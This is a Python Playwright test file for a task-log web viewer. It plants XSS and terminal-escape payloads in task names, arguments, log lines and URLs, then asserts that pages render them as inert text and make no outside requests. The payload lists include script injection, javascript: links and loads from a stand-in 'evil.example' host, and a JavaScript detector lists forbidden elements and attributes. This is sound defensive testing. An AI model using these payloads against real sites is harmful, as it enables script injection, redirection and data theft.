"""Text that wants to be more: in output, names, arguments, errors, file names, workers and links, in a real browser.

Each text would call ``canary``, open a dialog, load something from elsewhere, or stand in the page as an element.
"""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest
from playwright.async_api import Browser, expect

from livetask.keys import Keys
from tests.server.serving import Client, Writer

SCRIPTS = [
    "<script>canary()</script>",
    "<img src=x onerror=canary()>",
    "<svg/onload=canary()>",
    "\"><script src='http://evil.example/x.js'></script>",
    "'-canary()-'",
    "{{ canary() }}{% raw %}${canary()}",
    "</title></textarea></noscript><iframe srcdoc='<script>parent.canary()</script>'>",
    "<a href='javascript:canary()'>x</a>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example/'><input name=q></form>",
    "<object data='http://evil.example/x'></object><embed src='http://evil.example/y'>",
    "<livetask-log server='http://evil.example' task-id='x'></livetask-log>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "\u202e<script>canary()</script>\u2066",
    "javascript:canary()//http://x",
]
ESCAPES = [
    "\x1b]8;;javascript:canary()\x07click\x1b]8;;\x07",
    "\x1b]8;;data:text/html,<script>canary()</script>\x07click\x1b]8;;\x07",
    '\x1b]8;;http://evil.example/"onmouseover=canary()//\x07click\x1b]8;;\x07',
    "\x1b]0;<script>canary()</script>\x07title",
    "\x1b]52;c;Y2FuYXJ5\x07clipboard",
    "\x1b]1337;File=inline=1:PHNjcmlwdD4=\x07image",
    "\x1bP<script>canary()</script>\x1b\\dcs",
    "\x1b[38;2;1;1;1;url(http://evil.example)mcolour",
    "\x1b[<script>canary()</script>m",
    "\x9d8;;javascript:canary()\x9cc1",
    'http://evil.example/"><script>canary()</script>',
    "http://evil.example/'onclick='canary()",
    "https://x.example/<svg/onload=canary()>",
]
WATCH = """
window.canaries = [];
window.canary = () => { canaries.push(new Error().stack); };
"""
FOUND = """
() => {
  const wrong = [];
  const own = location.origin;
  const FORBIDDEN = ['iframe', 'object', 'embed', 'base', 'img', 'frame', 'applet', 'math', 'video', 'audio'];
  const look = (root) => {
    for (const element of root.querySelectorAll('*')) {
      const name = element.localName;
      if (FORBIDDEN.includes(name)) wrong.push(name);
      if (name === 'meta' && element.httpEquiv) wrong.push('meta ' + element.httpEquiv);
      for (const { name: key, value } of element.attributes) {
        if (key.startsWith('on') || key === 'srcdoc') wrong.push(`${name} ${key}`);
        if (['src', 'href', 'action', 'formaction', 'data', 'server'].includes(key)) {
          const url = new URL(value, location.href);
          if (!['http:', 'https:'].includes(url.protocol)) wrong.push(`${name} ${key} ${value}`);
          const leaves = name === 'a' && /noopener/.test(element.rel) && /noreferrer/.test(element.rel);
          if (url.origin !== own && !leaves) wrong.push(`${name} ${key} ${value}`);
        }
      }
      if (name === 'script' && !element.src) wrong.push('script of its own');
      if (element.shadowRoot) look(element.shadowRoot);
    }
  };
  look(document);
  return { wrong, canaries: window.canaries, title: document.title };
}
"""


async def planted(client: Client, redis_url: str) -> list[str]:
    """Tasks with hostile texts in every place that a page shows; their ids."""
    ids = []
    everything = [*SCRIPTS, *ESCAPES]
    for number, text in enumerate(SCRIPTS):
        task_id = f"hostile-{number}"
        writer = Writer(redis_url, task_id).begin(name=text)
        for line in everything:
            writer.write(f"{line}\n{text}{line}\r{line}\n".encode())
        writer.write(f"::group::{text}\n{text}\n::endgroup::\nTraceback (most recent call last):\n".encode())
        detail = {"exception": text, "traceback": f'File "{text}", line 1\n{text}', "reason": text, "signal": text}
        fields = {
            "args": f"({text!r},)",
            "kwargs": f"{{'a': {text!r}}}",
            "result": text,
            "worker": text,
            "queue": text,
            "root_id": text,
            "parent_id": text,
            "owner": text,
            "revoked_by": text,
            "progress": json.dumps({"current": 1, "total": 2, "info": text}),
            "1.worker": text,
            "1.host": text,
            "1.pool": text,
            "1.why": text,
        }
        if number % 2:
            writer.finish("FAILURE")
            fields["1.detail"] = json.dumps(detail)
        writer.redis.hset(Keys().task(task_id), mapping=fields)
        writer.redis.close()
        ids.append(task_id)
    return ids


@pytest.mark.parametrize("script", [True, False])
async def test_hostile_text_is_text_in_every_place_of_every_page(
    client: Client, store: object, own_browser: Browser, script: bool
) -> None:
    ids = await planted(client, store.url)  # type: ignore[attr-defined]
    base = str(client.make_url("/")).rstrip("/")
    context = await own_browser.new_context(java_script_enabled=script)
    elsewhere: list[str] = []
    dialogs: list[str] = []
    page = await context.new_page()
    await page.add_init_script(WATCH)
    page.on(
        "request", lambda request: None if request.url.startswith((base, "data:")) else elsewhere.append(request.url)
    )
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.on("download", lambda download: dialogs.append(download.url))
    context.on("page", lambda other: None if other is page else dialogs.append(f"opened {other.url}"))
    hostile = [quote(text, safe="") for text in SCRIPTS[:6]]
    places = ["/", f"/?q={hostile[0]}", f"/?show={hostile[1]}", *(f"/tasks/{task_id}" for task_id in ids)]
    places += [
        f"/tasks/{ids[0]}?run={hostile[0]}",
        f"/tasks/{ids[0]}#{hostile[1]}",
        f"/tasks/{ids[0]}/log?run={hostile[1]}",
    ]
    if not script:
        places = places[:6]
    places += [f"/tasks/{text}" for text in hostile] + [f"/{text}" for text in hostile]
    places += [f"/tasks/{task_id}/log" for task_id in ids[:4]] + [f"/embed/tasks/{ids[0]}", f"/login?next={hostile[0]}"]
    for place in places:
        await page.goto(base + place, wait_until="load")
        if not script:
            assert not re.search(r"<(script>|img|svg/|iframe|object|form action='http)", await page.content()), place
            continue
        if re.fullmatch(r"/tasks/hostile-\d+", place):
            await expect(page.locator("livetask-log .row:not(.away)").first).to_be_visible()
            await page.keyboard.press("Home")
            for details in await page.locator("details:not([open]) > summary").all():
                if await details.is_visible():
                    await details.click()
        elif place == "/":
            await expect(page.locator(".card, tbody tr").first).to_be_visible()
        found = await page.evaluate(FOUND)
        assert found["wrong"] == [], place
        assert found["canaries"] == [], place
    if script:
        await page.evaluate("document.body.append(document.createElement('iframe'))")
        assert (await page.evaluate(FOUND))["wrong"] == ["iframe"], "what is looked for would be found"
    assert elsewhere == []
    assert dialogs == []
    await context.close()


async def test_files_are_never_pages(client: Client, store: object) -> None:
    await planted(client, store.url)  # type: ignore[attr-defined]
    for rest in ("log.txt", "log.txt?download=1", "log.gz", "log?line=1&count=50", "log?offset=1-0", "log"):
        async with client.get(f"/api/tasks/hostile-0/runs/1/{rest}") as answer:
            assert answer.status == 200, rest
            assert answer.content_type in (
                "text/plain",
                "application/gzip",
                "application/json",
                "application/octet-stream",
            )
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            disposition = answer.headers.get("Content-Disposition", "")
            assert "\n" not in disposition
            assert "<" not in disposition
